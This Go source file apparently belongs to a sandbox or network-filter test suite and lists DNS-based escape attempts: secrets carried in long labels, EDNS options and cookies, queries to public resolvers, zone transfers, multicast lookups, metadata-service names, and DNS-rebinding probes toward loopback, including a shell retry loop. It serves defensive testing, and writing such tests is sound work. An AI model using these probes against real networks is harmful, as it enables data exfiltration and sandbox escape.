package attack

import "strings"

// resolvers are ways to make somebody outside look up a name, which would carry what stands in it.
var resolvers = append(types(), []Attack{
	queried("long", "tell a resolver a secret in long labels", query(1, "", question(strings.Repeat("s", 63)+"."+strings.Repeat("t", 63)+".evil.test", 16, 1))),
	queried("long-allowed", "tell a resolver a secret below an allowed name", query(1, "", question(strings.Repeat("s", 63)+"."+strings.Repeat("t", 63)+".good.test", 1, 1))),
	queried("binary", "tell a resolver a secret in labels of any bytes", query(1, "", question("s\x00c\xffr t.good.test", 1, 1))),
	queried("mixed-case", "tell a resolver a secret by the case of an allowed name", query(1, "", question("GoOd.TeSt", 28, 1))),
	queried("underscore", "ask for a service below an allowed name", query(1, "", question("_443._tcp.good.test", 52, 1))),
	queried("suffix", "ask for an allowed name with a search suffix", query(1, "", question("good.test.evil.test", 1, 1))),
	queried("look-alike", "ask for a name that looks like an allowed one", query(1, "", question("xn--gd-jlca.test", 1, 1))),
	queried("reverse", "ask for the name of an address", query(1, "", question("66.89.67.45.in-addr.arpa", 12, 1))),
	queried("metadata", "ask for the metadata service", query(1, "", question("metadata.google.internal", 1, 1))),
	queried("root", "ask for the root's servers", query(1, "", question("", 2, 1))),
	queried("chaos", "ask for the resolver's version", query(1, "", question("version.bind", 16, 3))),
	queried("class-none", "ask in class NONE", query(1, "", question("secret.evil.test", 1, 254))),
	queried("class-any", "ask in class ANY", query(1, "", question("secret.evil.test", 1, 255))),
	queried("two", "ask two questions", query(2, "", question("good.test", 1, 1)+question("secret.evil.test", 1, 1))),
	queried("none", "ask nothing, and tell an answer", "\x12\x34\x01\x00\x00\x00\x00\x01\x00\x00\x00\x00"+record1035("secret.evil.test")),
	queried("answer", "send an answer", "\x12\x34\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00"+question("secret.evil.test", 1, 1)+record1035("secret.evil.test")),
	queried("extra", "tell a resolver a secret beside an allowed question", "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01"+question("good.test", 28, 1)+record1035("secret.evil.test")),
	queried("inverse", "ask an inverse query", "\x12\x34\x09\x00\x00\x01\x00\x00\x00\x00\x00\x00"+question("secret.evil.test", 1, 1)),
	queried("notify", "send a NOTIFY", "\x12\x34\x20\x00\x00\x01\x00\x00\x00\x00\x00\x00"+question("secret.evil.test", 6, 1)),
	queried("update", "send an UPDATE", "\x12\x34\x28\x00\x00\x01\x00\x00\x00\x00\x00\x00"+question("good.test", 6, 1)+question("secret.evil.test", 6, 1)),
	queried("stateful", "send a stateful operation", "\x12\x34\x30\x00\x00\x00\x00\x00\x00\x00\x00\x00"),
	queried("subnet", "tell a resolver a secret in the client's subnet", query(1, option(8, "\x00\x01\x20\x00secr"), question("good.test", 1, 1))),
	queried("cookie", "tell a resolver a secret in a cookie", query(1, option(10, "secretse"), question("good.test", 1, 1))),
	queried("option", "tell a resolver a secret in an unknown option", query(1, option(65001, strings.Repeat("secret", 50)), question("good.test", 1, 1))),
	queried("version", "use another version of EDNS", strings.Replace(query(1, option(65001, "secret"), question("secret.evil.test", 1, 1)), "\x00\x00\x29\x04\xd0\x00\x00", "\x00\x00\x29\x04\xd0\x00\x01", 1)),
	queried("loop", "send a name that points at itself", "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x0c\x00\x01\x00\x01"),
	queried("short", "send less than a header", "\x12\x34\x01"),
	queried("large", "send more than any question has", query(1, option(65001, strings.Repeat("s", 5000)), question("secret.evil.test", 1, 1))),
	{
		ID: "dns.stream", Tries: "ask many questions on a connection", Wall: Network, Invariant: "I3", Source: "RFC 7766, 6.2.1",
		Try: wire("9.9.9.9:53", strings.Repeat(vector(2, query(1, "", question("secret.evil.test", 16, 1))), 10)), Down: Outside, Shows: Internet,
	},
	{
		ID: "dns.stream-bytes", Tries: "ask a question on a connection, byte by byte", Wall: Network, Invariant: "I3", Source: "RFC 7766, 8",
		Try: wire("9.9.9.9:53", each, vector(2, query(1, "", question("secret.evil.test", 16, 1)))), Down: Outside, Shows: Internet,
	},
	{
		ID: "dns.stream-foreign", Tries: "send something else than DNS to a resolver's port", Wall: Network, Invariant: "I3", Source: "RFC 7766",
		Try: wire("8.8.8.8:53", "\x00\x0eSSH-2.0-probe\r\n"), Down: Outside, Shows: Internet,
	},
	{
		ID: "dns.transfer", Tries: "transfer a zone", Wall: Network, Invariant: "I3", Source: "RFC 5936",
		Try: wire("9.9.9.9:53", vector(2, query(1, "", question("evil.test", 252, 1)))), Down: Outside, Shows: Internet,
	},
	{
		ID: "dns.multicast", Tries: "ask the neighbours by multicast DNS", Wall: Network, Invariant: "I3", Source: "RFC 6762",
		Try: datagram("224.0.0.251:5353", query(1, "", question("secret.local", 1, 1))), Down: Outside, Shows: Internet,
	},
	{
		ID: "dns.link-local", Tries: "ask the neighbours by LLMNR", Wall: Network, Invariant: "I3", Source: "RFC 4795",
		Try: datagram("224.0.0.252:5355", query(1, "", question("secret", 1, 1))), Down: Outside, Shows: Internet,
	},
	{
		ID: "dns.multicast-asked", Tries: "ask a host's multicast responder", Wall: Network, Invariant: "I3", Source: "RFC 6762, 5.5",
		Try: datagram("45.67.89.66:5353", query(1, "", question("secret.local", 1, 1))), Down: Outside, Shows: Internet,
	},

	resolved("loopback", "lo.good.test"),
	resolved("loopback-6", "lo6.good.test"),
	resolved("loopback-mapped", "map.good.test"),
	answered("metadata", "meta.good.test"),
	answered("lan", "lan.good.test"),
	resolved("mixed", "mixed.good.test"),
	resolved("any", "zero.good.test"),
	resolved("any-6", "zero6.good.test"),
	resolved("own", "own.good.test"),
	resolved("own-6", "own6.good.test"),
	resolved("alias", "alias.good.test"),
	{
		ID: "dns.to-changing", Tries: "reach the host's loopback by an allowed name that leads there every other time", Wall: Network, Invariant: "I2", Source: "DNS rebinding",
		Script:  "for i in 1 2 3 4 5 6; do {SUID} -patience 300ms tcp flip.good.test:{HOST} && exit 0; done; exit 1",
		Control: []string{"tcp own.good.test:{HOST}"}, Down: Outside, Shows: Host, Within: []string{"flip.good.test"}, Lax: true,
	},
	answered("metadata-6", "meta6.good.test"),
	answered("carrier", "cgnat.good.test"),
	answered("nat64", "nat64.good.test"),
	answered("nat64-local", "nat64-own.good.test"),
	answered("6to4", "6to4.good.test"),
	answered("teredo", "teredo.good.test"),
	answered("compatible", "compat.good.test"),
	answered("isatap", "isatap.good.test"),
	answered("site-local", "site.good.test"),
	{ID: "dns.tunnel", Tries: "carry bytes in queries, with a tunnelling tool", Wall: Network, Invariant: "I3", Source: "dns2tcp", Test: "TestADNSTunnelCarriesNothing", Down: Outside, Shows: Internet},
}...)

// types asks for every kind of record of a denied name, and of an allowed one.
func types() (all []Attack) {
	for t := range strings.FieldsSeq("A AAAA MX NS SRV ANY HTTPS SVCB NULL AXFR CNAME") {
		for _, name := range []string{"secret.evil.test", "good.test"} {
			what := "denied"
			if name == "good.test" {
				what = "allowed"
			}
			all = append(all, Attack{
				ID: "dns." + strings.ToLower(t) + "-" + what, Tries: "make a resolver ask for the records " + t + " of a name that is " + what, Wall: Network, Invariant: "I3",
				Source: "DNS exfiltration", Try: "dns " + name + " 9.9.9.9:53 " + t, Down: Outside, Shows: Internet, Answered: what == "allowed",
			})
		}
	}
	return all
}

// queried is a message for a resolver. It may answer, if only by itself.
func queried(id, tries, message string) Attack {
	return Attack{
		ID: "dns." + id, Tries: tries, Wall: Network, Invariant: "I3", Source: "RFC 1035",
		Try: datagram("9.9.9.9:53", message), Down: Outside, Shows: Internet,
	}
}

// resolved is an allowed name that stands for the host.
func resolved(id, name string) Attack {
	return Attack{
		ID: "dns.to-" + id, Tries: "reach the host's loopback by an allowed name", Wall: Network, Invariant: "I2", Source: "DNS rebinding",
		Try: wire(name+":{HOST}", record(hello(serverName(name)))), Down: Outside, Shows: Host, Within: []string{name}, Lax: true,
	}
}

// answered is an allowed name that stands for what is not to be reached by any name.
func answered(id, name string) Attack {
	return Attack{
		ID: "dns.to-" + id, Tries: "reach what no name may stand for by an allowed name: " + id, Wall: Network, Invariant: "I2", Source: "DNS rebinding",
		Try: wire(name+":443", record(hello(serverName(name)))), Down: Outside, Shows: Internet, Within: []string{name}, Lax: true,
	}
}

// query is a message with n questions, and the OPT record if there is one (RFC 1035, 4.1; RFC 6891, 6.1).
func query(n int, opt string, questions string) string {
	more := number(2, 0)
	if opt != "" {
		more = number(2, 1)
	}
	return "\x12\x34\x01\x00" + number(2, n) + "\x00\x00\x00\x00" + more + questions + opt
}

func question(name string, typ, class int) string {
	return wireName(name) + number(2, typ) + number(2, class)
}

// record1035 is a resource record of the type A.
func record1035(name string) string {
	return wireName(name) + "\x00\x01\x00\x01\x00\x00\x00\x3c" + vector(2, "\x2d\x43\x59\x42")
}

// option is an OPT record with one option.
func option(code int, data string) string {
	return "\x00\x00\x29\x04\xd0\x00\x00\x00\x00" + vector(2, number(2, code)+vector(2, data))
}

func wireName(name string) string {
	var b strings.Builder
	for label := range strings.SplitSeq(name, ".") {
		if label != "" {
			b.WriteString(vector(1, label))
		}
	}
	return b.String() + "\x00"
}
